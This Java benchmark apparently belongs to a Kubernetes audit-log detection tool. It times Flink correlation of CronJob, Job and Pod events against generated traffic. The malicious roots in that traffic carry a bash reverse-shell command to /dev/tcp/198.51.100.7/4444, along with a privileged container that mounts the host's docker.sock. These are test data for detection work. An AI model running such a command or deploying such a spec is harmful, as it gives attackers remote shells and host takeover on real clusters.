package dev.cronsentinel.bench;

import dev.cronsentinel.config.CorrelationConfig;
import dev.cronsentinel.correlate.ChainFinding;
import dev.cronsentinel.correlate.CorrelationStage;
import dev.cronsentinel.correlate.CronJobLinkFunction;
import dev.cronsentinel.correlate.EscalationFunction;
import dev.cronsentinel.correlate.JobLinkFunction;
import dev.cronsentinel.correlate.LinkKeys;
import dev.cronsentinel.correlate.SpawnedJob;
import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.AlertKind;
import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.EnvVarSpec;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.MountSpec;
import dev.cronsentinel.model.PodTemplate;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Severity;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.model.VolumeSpec;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.score.RuleSet;
import dev.cronsentinel.score.RuleSetLoader;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.PriorityQueue;
import java.util.Queue;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import java.util.function.Supplier;
import org.apache.flink.api.common.serialization.SerializerConfigImpl;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.configuration.MemorySize;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.runtime.state.KeyedStateBackend;
import org.apache.flink.runtime.state.VoidNamespace;
import org.apache.flink.runtime.state.storage.JobManagerCheckpointStorage;
import org.apache.flink.state.rocksdb.EmbeddedRocksDBStateBackend;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.api.operators.co.KeyedCoProcessOperator;
import org.apache.flink.streaming.api.watermark.Watermark;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.AbstractStreamOperatorTestHarness;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.apache.flink.streaming.util.KeyedTwoInputStreamOperatorTestHarness;
import org.apache.flink.util.OutputTag;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.TearDown;
import org.openjdk.jmh.annotations.Warmup;

/**
 * Per-event cost of correlation: the three real functions ({@link CronJobLinkFunction}, {@link JobLinkFunction},
 * {@link EscalationFunction}) in Flink's keyed operator test harnesses, wired as {@link CorrelationStage} wires
 * them, fed CronJob -> Job -> Pod chains in event-time order with watermarks advancing, so windows close, timers
 * fire and state drains while the benchmark runs.
 *
 * <p>The figure is for the chain as a whole: events per second on one thread, where one operation is one scored
 * event entering correlation (a root or a spawn), and what it costs includes everything it causes downstream in
 * the same thread: the Job handed from the CronJob stage to the Job stage, the finding handed to the escalation
 * stage, the alert, and its share of the watermark work (timers firing, state cleared). A per-stage figure would
 * need the intermediate records pre-built and would hide the hand-over, which the job pays too. The harnesses
 * add some cost of their own (records copied into output queues, no network stack), so this is the correlation
 * functions plus a thin operator layer, not a whole task.
 *
 * <p>Traffic ({@link ChainTraffic}): one root every {@value #ROOT_EVERY_MILLIS} ms of event time, at steady state
 * (the harnesses are filled with one longest chain lifetime of traffic in {@code @Setup}, so the live state the
 * functions work against is what a running job holds, about fifteen thousand roots). {@code mix=realistic}:
 * benign CronJobs whose Job and Pod spawn, benign CronJobs that never spawn in their window, benign Job roots,
 * and 5% malicious chains that escalate; {@code mix=attack}: every root malicious, so every chain escalates and
 * updates its alert. {@code backend=heap} is Flink's HashMap backend; {@code backend=rocksdb} is what the
 * deployment uses ({@code conf/flink/config.yaml}), with state serialized on every access.
 *
 * <p>Inputs are built outside the measurement: each invocation's batch of {@value #BATCH} events is taken from
 * the endless traffic in a {@code Level.Invocation} setup (an invocation is milliseconds long, so JMH's per-call
 * setup overhead does not matter). The traffic never repeats itself: each batch continues the stream where the
 * last one ended, with fresh names, uids and audit IDs and later event times, because replaying the same batch
 * would hit the "same root twice" and "older root" early exits and events behind the watermark, and measure
 * nothing.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Warmup(iterations = 3, time = 2)
@Measurement(iterations = 5, time = 2)
@Fork(value = 1, jvmArgsAppend = {"-Xmx2g"})
public class CorrelationBenchmark {
    static final int BATCH = 4096;
    static final long ROOT_EVERY_MILLIS = 250;

    @Param({"realistic", "attack"})
    public String mix;

    @Param({"heap", "rocksdb"})
    public String backend;

    private ChainTraffic traffic;
    private Correlation correlation;
    private final ScoredEvent[] batch = new ScoredEvent[BATCH];

    @Setup(Level.Trial)
    public void setUp() throws Exception {
        RuleSet rules = RuleSetLoader.load(Path.of(System.getProperty("cronsentinel.rules", "conf/rules/default.yaml")));
        CorrelationConfig cfg = CorrelationConfig.defaults().forRules(rules.profile(), rules.alertThreshold());
        traffic = new ChainTraffic(42, ChainTraffic.Mix.of(mix), Instant.parse("2026-11-20T00:00:00Z").toEpochMilli(),
                ROOT_EVERY_MILLIS, rules.alertThreshold(), rules.version());
        correlation = new Correlation(cfg, "rocksdb".equals(backend), alert -> { });
        long steady = traffic.startMillis() + traffic.longestChainMillis(cfg);
        long events = 0;
        while (traffic.peekTime() < steady) {
            correlation.feed(traffic.next().event());
            events++;
        }
        // Fail rather than measure a wiring that does nothing: every event must be correlated, malicious roots
        // must escalate, and nothing may be late.
        if (correlation.fed() != events || correlation.escalations() == 0 || correlation.late() != 0) {
            throw new IllegalStateException("correlation is not wired as expected: fed " + correlation.fed() + " of " + events
                    + " events, " + correlation.escalations() + " escalations, " + correlation.late() + " late");
        }
    }

    @Setup(Level.Invocation)
    public void nextBatch() {
        for (int i = 0; i < BATCH; i++) {
            batch[i] = traffic.next().event();
        }
    }

    @TearDown(Level.Trial)
    public void tearDown() throws Exception {
        correlation.close();
    }

    @Benchmark
    @OperationsPerInvocation(BATCH)
    public long chain() throws Exception {
        for (ScoredEvent e : batch) {
            correlation.feed(e);
        }
        return correlation.alerts();
    }

    /**
     * The correlation stage as {@link CorrelationStage#attach} wires it, on keyed operator test harnesses in one
     * thread: scored events are routed by {@link LinkKeys} to the CronJob or the Job stage, and every record a
     * stage emits is handed on at once (CronJob stage -> Job stage input 2, Job stage and CronJob orphans ->
     * escalation stage -> alerts). Watermarks follow the fed events with the job's bounded out-of-orderness and
     * go through the stages in order, so what a timer emits reaches the next stage before the watermark does.
     */
    static final class Correlation implements AutoCloseable {
        /** The job's {@code event-time.max-out-of-orderness} default. */
        static final long OUT_OF_ORDERNESS_MILLIS = 30_000;
        /** Watermarks are emitted when they would move by this much event time (a periodic emitter's effect). */
        static final long WATERMARK_STEP_MILLIS = 1_000;
        static final MemorySize ROCKSDB_MEMORY_PER_OPERATOR = MemorySize.parse("128mb");

        /** State names of {@link CronJobLinkFunction}, {@link JobLinkFunction} and {@link EscalationFunction}. */
        static final List<String> CRONJOB_STAGE_STATES = List.of("cronjob-root", "cronjob-pending-jobs");
        static final List<String> JOB_STAGE_STATES = List.of("job-link", "job-pending-pods");
        static final List<String> ESCALATION_STAGE_STATES = List.of("escalation");

        private final LinkKeys keys;
        private final boolean rocksDb;
        private final KeyedOneInputStreamOperatorTestHarness<String, ScoredEvent, SpawnedJob> cronJobs;
        private final KeyedTwoInputStreamOperatorTestHarness<String, ScoredEvent, SpawnedJob, ChainFinding> jobs;
        private final KeyedOneInputStreamOperatorTestHarness<String, ChainFinding, Alert> escalations;
        private final Consumer<Alert> alertSink;
        private long maxTimestamp = Long.MIN_VALUE;
        private long watermark = Long.MIN_VALUE;
        private long fed;
        private long late;
        private long alerts;
        private long escalationAlerts;
        private long orphanAlerts;
        private long checkpointId;

        Correlation(CorrelationConfig cfg, boolean rocksDb, Consumer<Alert> alertSink) throws Exception {
            this.keys = new LinkKeys(cfg.maxWindow().toMillis());
            this.rocksDb = rocksDb;
            this.alertSink = alertSink;
            LinkKeys k = keys;
            cronJobs = open(new KeyedOneInputStreamOperatorTestHarness<>(
                    new KeyedProcessOperator<>(new CronJobLinkFunction(cfg)), k::cronJobKey, Types.STRING));
            jobs = open(new KeyedTwoInputStreamOperatorTestHarness<>(
                    new KeyedCoProcessOperator<>(new JobLinkFunction(cfg)), k::jobKey, SpawnedJob::key, Types.STRING));
            escalations = open(new KeyedOneInputStreamOperatorTestHarness<>(
                    new KeyedProcessOperator<>(new EscalationFunction(cfg)), ChainFinding::key, Types.STRING));
        }

        private <H extends AbstractStreamOperatorTestHarness<?>> H open(H harness) throws Exception {
            if (rocksDb) {
                // Full snapshots: their size is the live state; an incremental one is the SST files, compaction garbage included.
                EmbeddedRocksDBStateBackend backend = new EmbeddedRocksDBStateBackend(false);
                // The harness's memory manager is a few hundred KB, which makes RocksDB flush its memtable all the
                // time; give each operator a fixed budget, as a slot's managed memory does in the job.
                backend.getMemoryConfiguration().setFixedMemoryPerSlot(ROCKSDB_MEMORY_PER_OPERATOR);
                harness.setStateBackend(backend);
            }
            // Snapshots are taken only to size the state; the default in-memory storage refuses more than 5 MB.
            harness.setCheckpointStorage(new JobManagerCheckpointStorage(Integer.MAX_VALUE));
            // Like the job's pipeline.generic-types: false, so no state silently falls back to Kryo.
            ((SerializerConfigImpl) harness.getExecutionConfig().getSerializerConfig()).setGenericTypes(false);
            harness.open();
            return harness;
        }

        /**
         * One scored event into the stage {@link LinkKeys} routes it to, everything it causes handed on, and the
         * watermark moved on when it is due. Events must come in event-time order (give or take the out-of-orderness).
         *
         * @return false when correlation takes no part in the event (it was not fed)
         */
        boolean feed(ScoredEvent s) throws Exception {
            long time = s.event().eventTime();
            StreamRecord<ScoredEvent> record = new StreamRecord<>(s, time);
            if (keys.toCronJobStage(s)) {
                cronJobs.processElement(record);
            } else if (keys.toJobStage(s)) {
                jobs.processElement1(record);
            } else {
                return false;
            }
            fed++;
            handOn();
            maxTimestamp = Math.max(maxTimestamp, time);
            long due = maxTimestamp - OUT_OF_ORDERNESS_MILLIS - 1;
            if (watermark == Long.MIN_VALUE || due >= watermark + WATERMARK_STEP_MILLIS) {
                advanceWatermark(due);
            }
            return true;
        }

        void advanceWatermark(long to) throws Exception {
            Watermark mark = new Watermark(to);
            cronJobs.processWatermark(mark);
            handOn();
            jobs.processBothWatermarks(mark);
            handOn();
            escalations.processWatermark(mark);
            handOn();
            watermark = to;
        }

        /** Hands every record the stages emitted to the next stage, in pipeline order; watermarks are not forwarded. */
        private void handOn() throws Exception {
            Correlation.<SpawnedJob>drain(cronJobs.getOutput(), r -> jobs.processElement2(r));
            Correlation.<ChainFinding>drain(cronJobs.getSideOutput(CronJobLinkFunction.ORPHANS), r -> escalations.processElement(r));
            drain(cronJobs.getSideOutput(CorrelationStage.LATE), r -> late++);
            Correlation.<ChainFinding>drain(jobs.getOutput(), r -> escalations.processElement(r));
            drain(jobs.getSideOutput(CorrelationStage.LATE), r -> late++);
            drain(escalations.getOutput(), (StreamRecord<Alert> r) -> {
                Alert a = r.getValue();
                alerts++;
                if (a.kind() == AlertKind.ESCALATION) {
                    escalationAlerts++;
                } else if (a.kind() == AlertKind.ORPHAN) {
                    orphanAlerts++;
                }
                alertSink.accept(a);
            });
        }

        private interface RecordHandler<T> {
            void accept(StreamRecord<T> record) throws Exception;
        }

        @SuppressWarnings("unchecked")
        private static <T> void drain(Queue<?> queue, RecordHandler<T> handler) throws Exception {
            if (queue == null) {
                return; // a side output nothing was emitted to yet
            }
            Object o;
            while ((o = queue.poll()) != null) {
                if (o instanceof StreamRecord<?> r) {
                    handler.accept((StreamRecord<T>) r);
                }
            }
        }

        long fed() {
            return fed;
        }

        long late() {
            return late;
        }

        /** Alert records emitted, first emissions and updates alike. */
        long alerts() {
            return alerts;
        }

        long escalations() {
            return escalationAlerts;
        }

        long orphans() {
            return orphanAlerts;
        }

        long watermark() {
            return watermark;
        }

        /** Keys holding any of {@code states} in a harness; the same count on the heap and RocksDB backends. */
        static long keysWith(AbstractStreamOperatorTestHarness<?> harness, List<String> states) {
            KeyedStateBackend<?> backend = harness.getOperator().getKeyedStateBackend();
            long n = 0;
            for (String state : states) {
                try (var keys = backend.getKeys(state, VoidNamespace.INSTANCE)) {
                    n += keys.count();
                }
            }
            return n;
        }

        /** Per stage: state entries (one per key and state name) and event-time timers. */
        StageCounts counts() {
            StageCounts c = new StageCounts(
                    keysWith(cronJobs, CRONJOB_STAGE_STATES), keysWith(jobs, JOB_STAGE_STATES),
                    keysWith(escalations, ESCALATION_STAGE_STATES),
                    cronJobs.numEventTimeTimers() + jobs.numEventTimeTimers() + escalations.numEventTimeTimers(),
                    keysWith(cronJobs, List.of("cronjob-root")),
                    jobKeysNamed(ChainTraffic.JOB_ROOT_PREFIX));
            if (!rocksDb) {
                // Counted by state name above; the heap backend can count every entry, which catches a renamed state.
                long all = (long) cronJobs.numKeyedStateEntries() + jobs.numKeyedStateEntries() + escalations.numKeyedStateEntries();
                if (all != c.entries()) {
                    throw new IllegalStateException("state names changed: " + all + " entries on the heap, " + c.entries() + " by name");
                }
            }
            return c;
        }

        /** Job-stage keys ({@code namespace/job}) of Jobs whose name starts with {@code prefix}. */
        private long jobKeysNamed(String prefix) {
            KeyedStateBackend<String> backend = jobs.getOperator().getKeyedStateBackend();
            try (var keys = backend.getKeys("job-link", VoidNamespace.INSTANCE)) {
                return keys.filter(k -> k.substring(k.indexOf('/') + 1).startsWith(prefix)).count();
            }
        }

        /** Bytes of a checkpoint of the three operators: keyed state and timers, as the backend writes them. */
        long snapshotBytes() throws Exception {
            long bytes = 0;
            for (AbstractStreamOperatorTestHarness<?> h : List.of(cronJobs, jobs, escalations)) {
                OperatorSubtaskState snapshot = h.snapshot(++checkpointId, watermark);
                bytes += snapshot.getStateSize();
                snapshot.discardState();
            }
            return bytes;
        }

        @Override
        public void close() throws Exception {
            Exception first = null;
            for (AbstractStreamOperatorTestHarness<?> h : List.of(cronJobs, jobs, escalations)) {
                try {
                    h.close();
                } catch (Exception e) {
                    if (first == null) {
                        first = e;
                    } else {
                        first.addSuppressed(e);
                    }
                }
            }
            if (first != null) {
                throw first;
            }
        }
    }

    /**
     * @param cronJobStage state entries of the CronJob stage, {@code jobStage} of the Job stage, {@code escalationStage}
     *     of the escalation stage
     * @param cronJobRoots keys holding a CronJob root
     * @param jobRoots Job-stage keys holding a Job a human created (a root), not one the CronJob controller spawned
     */
    record StageCounts(long cronJobStage, long jobStage, long escalationStage, long timers, long cronJobRoots, long jobRoots) {
        long entries() {
            return cronJobStage + jobStage + escalationStage;
        }

        /** Roots whose chain is still tracked: a CronJob root in the CronJob stage, or a Job root in the Job stage. */
        long trackedRoots() {
            return cronJobRoots + jobRoots;
        }
    }

    /**
     * One scored event of the traffic.
     *
     * @param escalatesRoot the audit ID of the malicious root whose first escalation this event must raise (the
     *     first Pod of a malicious chain); null for every other event
     */
    record Step(ScoredEvent event, String escalatesRoot) {}

    /**
     * Endless, deterministic CronJob -> Job -> Pod traffic as the scorer hands it to correlation, in event-time
     * order: one root every {@code rootEveryMillis}, and the spawns the controllers create for it when its
     * schedule fires. Shaped like the decoder and scorer produce events (see docs/CORRELATION.md and
     * shared/docs/k8s-audit-facts.md): roots are creates by a human (role {@code workload}) with their own score;
     * the CronJob controller creates the Job {@code <cronjob>-<scheduled minute>} a little after the scheduled
     * time, with an owner reference; the Job controller creates {@code <job>-<5 characters>} Pods with owner
     * reference and {@code job-name} label; spawns are scored on their own spec. Every event has its own
     * strings and lists, as decoded events do, so the heap a root costs is not flattered by sharing.
     *
     * <p>CronJobs run every 5, 10 or 30 minutes, so roots wait 5 to 35 minutes of event time for their first Job.
     * Job roots are named {@value #JOB_ROOT_PREFIX}..., so the Job stage's keys tell them from spawned Jobs.
     */
    static final class ChainTraffic {
        static final String JOB_ROOT_PREFIX = "manual-";
        static final String ATTACKER = "mallory@example.com";
        private static final String CRONJOB_CONTROLLER = "system:serviceaccount:kube-system:cronjob-controller";
        private static final String JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller";
        private static final String CONTROLLER_AGENT = "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/9d62330/system:serviceaccount:kube-system:";
        private static final String[] HUMANS = {"alice@example.com", "bob@example.com", "carol@example.com",
            "system:serviceaccount:ci:deployer", "system:serviceaccount:argocd:argocd-application-controller"};
        private static final String[] NAMESPACES = {"default", "prod", "web", "payments", "build", "data", "ops", "edge", "ml", "search"};
        private static final String[] WORKLOADS = {"report-gen", "pg-backup", "log-rotate", "image-prune", "cache-warm",
            "cert-check", "etl-nightly", "metrics-rollup", "index-compact", "sitemap"};
        private static final String[] IMAGES = {"registry.example.com/app/worker:7.1", "postgres:16", "python:3.12-slim",
            "ghcr.io/acme/runner:1.8", "registry.example.com/platform/toolbox:4.2", "busybox:1.36"};
        private static final int[] PERIOD_MINUTES = {5, 10, 30};
        private static final String POD_SUFFIX_ALPHABET = "bcdfghjklmnpqrstvwxz2456789";
        private static final long MINUTE = 60_000;

        /** Kinds of root, with their share of roots in a mix. */
        enum Kind { BENIGN_CRONJOB, IDLE_CRONJOB, BENIGN_JOB, MALICIOUS_CRONJOB, MALICIOUS_JOB }

        /** Shares of {@link Kind}s, in per cent. */
        record Mix(int benignCronJob, int idleCronJob, int benignJob, int maliciousCronJob, int maliciousJob) {
            static Mix of(String name) {
                return switch (name) {
                    // Most roots are benign CronJobs that keep running; 5% of roots are malicious, as in the load generator.
                    case "realistic" -> new Mix(55, 25, 15, 4, 1);
                    case "attack" -> new Mix(0, 0, 0, 80, 20);
                    default -> throw new IllegalArgumentException("unknown mix " + name + " (realistic, attack)");
                };
            }

            Kind pick(int percent) {
                int p = percent;
                if ((p -= benignCronJob) < 0) {
                    return Kind.BENIGN_CRONJOB;
                }
                if ((p -= idleCronJob) < 0) {
                    return Kind.IDLE_CRONJOB;
                }
                if ((p -= benignJob) < 0) {
                    return Kind.BENIGN_JOB;
                }
                return p - maliciousCronJob < 0 ? Kind.MALICIOUS_CRONJOB : Kind.MALICIOUS_JOB;
            }
        }

        /** An event due at {@code time}, built only when it is taken, so the queue of future spawns stays small. */
        private record Pending(long time, long seq, Supplier<ScoredEvent> event, String escalatesRoot) {}

        private final SplittableRandom random;
        private final Mix mix;
        private final long startMillis;
        private final long rootEveryMillis;
        private final int threshold;
        private final String ruleVersion;
        private final PriorityQueue<Pending> pending =
                new PriorityQueue<>(Comparator.comparingLong(Pending::time).thenComparingLong(Pending::seq));
        private long nextRoot;
        private long seq;
        private long roots;
        private long maliciousRoots;
        private long events;

        ChainTraffic(long seed, Mix mix, long startMillis, long rootEveryMillis, int alertThreshold, String ruleVersion) {
            this.random = new SplittableRandom(seed);
            this.mix = mix;
            this.startMillis = startMillis;
            this.rootEveryMillis = rootEveryMillis;
            this.threshold = alertThreshold;
            this.ruleVersion = ruleVersion;
            this.nextRoot = startMillis;
        }

        long startMillis() {
            return startMillis;
        }

        /**
         * How long the longest chain keeps state, in event time: a root just after a fire of the slowest schedule
         * waits one period for its Job, then one more period plus the grace for the next one; its escalation closes
         * a settle margin later. Traffic this long fills the stages to their steady state.
         */
        long longestChainMillis(CorrelationConfig cfg) {
            long period = PERIOD_MINUTES[PERIOD_MINUTES.length - 1] * MINUTE;
            return 2 * period + cfg.scheduleGrace().toMillis() + cfg.defaultWindow().toMillis() + 2 * cfg.spawnBuffer().toMillis();
        }

        long roots() {
            return roots;
        }

        long maliciousRoots() {
            return maliciousRoots;
        }

        long events() {
            return events;
        }

        /** Event time of the next event. */
        long peekTime() {
            fill();
            return pending.peek().time();
        }

        Step next() {
            fill();
            events++;
            Pending p = pending.poll();
            return new Step(p.event().get(), p.escalatesRoot());
        }

        /** Creates roots (with their future spawns) until the earliest pending event is certain to be next. */
        private void fill() {
            while (pending.isEmpty() || nextRoot <= pending.peek().time()) {
                root(nextRoot);
                nextRoot += rootEveryMillis;
            }
        }

        private void add(long time, Supplier<ScoredEvent> event, String escalatesRoot) {
            pending.add(new Pending(time, seq++, event, escalatesRoot));
        }

        private void root(long t) {
            roots++;
            Kind kind = mix.pick(random.nextInt(100));
            boolean malicious = kind == Kind.MALICIOUS_CRONJOB || kind == Kind.MALICIOUS_JOB;
            if (malicious) {
                maliciousRoots++;
            }
            String ns = NAMESPACES[random.nextInt(NAMESPACES.length)];
            String user = malicious ? ATTACKER : HUMANS[random.nextInt(HUMANS.length)];
            String image = malicious ? "debian:bookworm-slim" : IMAGES[random.nextInt(IMAGES.length)];
            String command = malicious ? "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1" : "/app/bin/run --batch-size " + random.nextInt(1000);
            String auditId = uuid();
            String uid = uuid();
            if (kind == Kind.BENIGN_JOB || kind == Kind.MALICIOUS_JOB) {
                String name = JOB_ROOT_PREFIX + WORKLOADS[random.nextInt(WORKLOADS.length)] + "-" + Long.toString(roots, 36);
                add(t, () -> scored(event(auditId, t, "jobs", ns, name, uid, user, null, null, null, null, null,
                        template("requestObject.spec.template.spec", image, command, malicious)), EventRole.WORKLOAD, malicious), null);
                long podTime = t + 150 + random.nextInt(600);
                add(podTime, () -> pod(ns, name, uid, podTime, image, command, malicious), malicious ? auditId : null);
                return;
            }
            int period = PERIOD_MINUTES[random.nextInt(PERIOD_MINUTES.length)];
            String name = WORKLOADS[random.nextInt(WORKLOADS.length)] + "-" + Long.toString(roots, 36);
            add(t, () -> scored(event(auditId, t, "cronjobs", ns, name, uid, user, null, null, null, null, "*/" + period + " * * * *",
                    template("requestObject.spec.jobTemplate.spec.template.spec", image, command, malicious)), EventRole.WORKLOAD, malicious), null);
            if (kind == Kind.IDLE_CRONJOB) {
                return; // suspended or deleted before it fired: the root waits out its window
            }
            long scheduled = (Math.floorDiv(t, period * MINUTE) + 1) * period * MINUTE;
            long jobTime = scheduled + 40 + random.nextInt(1500);
            String jobName = name + "-" + scheduled / MINUTE;
            String jobUid = uuid();
            add(jobTime, () -> scored(event(uuid(), jobTime, "jobs", ns, jobName, jobUid, CRONJOB_CONTROLLER, "CronJob", name, uid,
                    null, null, template("requestObject.spec.template.spec", image, command, malicious)), EventRole.SPAWN, malicious), null);
            long podTime = jobTime + 100 + random.nextInt(700);
            add(podTime, () -> pod(ns, jobName, jobUid, podTime, image, command, malicious), malicious ? auditId : null);
            if (malicious) {
                // the reverse shell finds no listener, the container fails and the Job controller retries it
                long retryTime = podTime + 10_000 + random.nextInt(20_000);
                add(retryTime, () -> pod(ns, jobName, jobUid, retryTime, image, command, true), null);
            }
        }

        private ScoredEvent pod(String ns, String job, String jobUid, long t, String image, String command, boolean malicious) {
            StringBuilder name = new StringBuilder(job).append('-');
            for (int i = 0; i < 5; i++) {
                name.append(POD_SUFFIX_ALPHABET.charAt(random.nextInt(POD_SUFFIX_ALPHABET.length())));
            }
            return scored(event(uuid(), t, "pods", ns, name.toString(), uuid(), JOB_CONTROLLER, "Job", job, jobUid, job, null,
                    template("requestObject.spec", image, command, malicious)), EventRole.SPAWN, malicious);
        }

        private WorkloadEvent event(String auditId, long t, String resource, String ns, String name, String uid, String user,
                                    String ownerKind, String ownerName, String ownerUid, String jobNameLabel, String schedule,
                                    PodTemplate template) {
            boolean controller = user.startsWith("system:serviceaccount:kube-system:");
            List<String> groups = controller
                    ? List.of(fresh("system:serviceaccounts"), fresh("system:serviceaccounts:kube-system"), fresh("system:authenticated"))
                    : List.of(fresh("system:authenticated"), fresh("oidc:platform-team"));
            String agent = controller ? CONTROLLER_AGENT + user.substring(user.lastIndexOf(':') + 1)
                    : "kubectl/v1.31.2 (linux/amd64) kubernetes/9d62330";
            String ip = controller ? "10.0.0.10" : "203.0.113." + random.nextInt(250);
            return new WorkloadEvent(auditId, t, Instant.ofEpochMilli(t).toString(), "create", resource, fresh(ns), name, uid,
                    fresh(user), groups, fresh(agent), ip, 201, "allow", "RequestResponse", false, ownerKind, ownerName,
                    ownerUid, jobNameLabel, schedule, null, null, false, false, List.of(template), "bench:" + seq);
        }

        private PodTemplate template(String path, String image, String command, boolean malicious) {
            String c = path + ".containers[0]";
            List<EnvVarSpec> env = new ArrayList<>();
            for (int i = 0, n = 2 + random.nextInt(6); i < n; i++) {
                env.add(new EnvVarSpec("APP_SETTING_" + i, "value-" + Long.toHexString(random.nextLong())));
            }
            ContainerSpec container = new ContainerSpec(c, "main", fresh(image), List.of("/bin/sh", "-c"), List.of(fresh(command)), env,
                    malicious ? Boolean.TRUE : Boolean.FALSE, null, null, malicious ? null : Boolean.TRUE, List.of(),
                    List.of(new MountSpec("config", malicious ? "/host/docker.sock" : "/etc/app")));
            VolumeSpec volume = new VolumeSpec(path + ".volumes[0]", "config", malicious ? "/var/run/docker.sock" : null);
            return new PodTemplate("requestObject", path, null, null, null, null, null, List.of(container), List.of(volume));
        }

        /** Scored as the rule set would: malicious specs well above the threshold, benign ones well below it. */
        private ScoredEvent scored(WorkloadEvent e, EventRole role, boolean malicious) {
            PodTemplate t = e.templates().get(0);
            String c = t.path() + ".containers[0]";
            List<Signal> signals = malicious
                    ? List.of(new Signal("shell-command", "reverse-shell-dev-tcp", 60, c + ".args[0]", t.containers().get(0).args().get(0)),
                            new Signal("host-path", "host-path", 40, t.path() + ".volumes[0].hostPath.path", "/var/run/docker.sock"),
                            new Signal("privileged", "privileged", 30, c + ".securityContext.privileged", "true"))
                    : random.nextInt(4) == 0 ? List.of(new Signal("suspicious-image", "language-runtime-image", 5, c + ".image", "python"))
                    : List.of();
            int score = 0;
            for (Signal s : signals) {
                score += s.weight();
            }
            if (malicious && score < threshold) {
                throw new IllegalStateException("the malicious spec must score at least the threshold " + threshold);
            }
            Severity severity = score >= 90 ? Severity.CRITICAL : score >= 60 ? Severity.HIGH : score >= 40 ? Severity.MEDIUM
                    : score >= 20 ? Severity.LOW : Severity.INFO;
            boolean alertable = role == EventRole.WORKLOAD && score >= threshold;
            return new ScoredEvent(e, role, signals, score, severity, alertable, null, ruleVersion);
        }

        private String uuid() {
            return new UUID(random.nextLong(), random.nextLong()).toString();
        }

        /** A copy, as a decoder makes one per event: keeps shared constants from flattering the heap per root. */
        private static String fresh(String s) {
            return new String(s);
        }
    }
}
